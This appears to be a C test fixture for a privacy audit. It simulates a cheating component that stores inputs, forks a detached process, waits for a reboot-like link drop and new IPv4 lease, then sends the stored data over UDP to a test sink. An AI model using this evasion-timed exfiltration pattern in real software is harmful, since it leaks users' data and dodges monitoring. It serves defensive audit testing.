/* leak_after_reboot.c — a cheater who read the audit's code and expects the capture to stop, or to
 * start over, when the device reboots: it keeps every input (standing for the device's flash) and,
 * at unload, leaves a process that waits for the device's link to go down and come back up with a
 * fresh IPv4 address (a reboot and a new DHCP lease), then sends what was kept to the sink over UDP
 * from whatever address it now holds. Caught only if the capture goes on across the reboot and the
 * frames after it are judged: PRV-02, -03, -05. Gives up after 600 s. Sends only to
 * AITC_FIXTURE_SINK inside 10.250.0.0/16 (the test's namespaces). */
#define _DEFAULT_SOURCE
#include <ifaddrs.h>
#include <net/if.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "fixture.h"

void fixture_leak(const unsigned char *data, size_t bytes) { fixture_keep(data, bytes); }

/* 1 when an interface other than lo is running and holds an IPv4 address, 0 when none is,
 * -1 when the interfaces cannot be read. */
static int link_up(void)
{
    struct ifaddrs *all = NULL;
    if (getifaddrs(&all) != 0) return -1;
    int up = 0;
    for (struct ifaddrs *a = all; a != NULL; a = a->ifa_next) {
        if (a->ifa_addr == NULL || a->ifa_addr->sa_family != AF_INET) continue;
        if ((a->ifa_flags & IFF_LOOPBACK) != 0) continue;
        if ((a->ifa_flags & (IFF_UP | IFF_RUNNING)) == (IFF_UP | IFF_RUNNING)) up = 1;
    }
    freeifaddrs(all);
    return up;
}

void fixture_unload(void)
{
    struct sockaddr_in sink;
    if (fixture_kept() == 0 || fixture_sink(&sink) != 0) return;
    pid_t child = fork();
    if (child != 0) {
        fixture_forget();
        return;
    }
    (void)setsid();
    int went_down = 0;
    for (int tick = 0; tick < 600 * 20; tick++) {
        int up = link_up();
        if (up == 0) went_down = 1;
        if (up == 1 && went_down) break;
        usleep(50000);
    }
    if (!went_down) _exit(0);
    fixture_send_kept(&sink);
    _exit(0);
}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
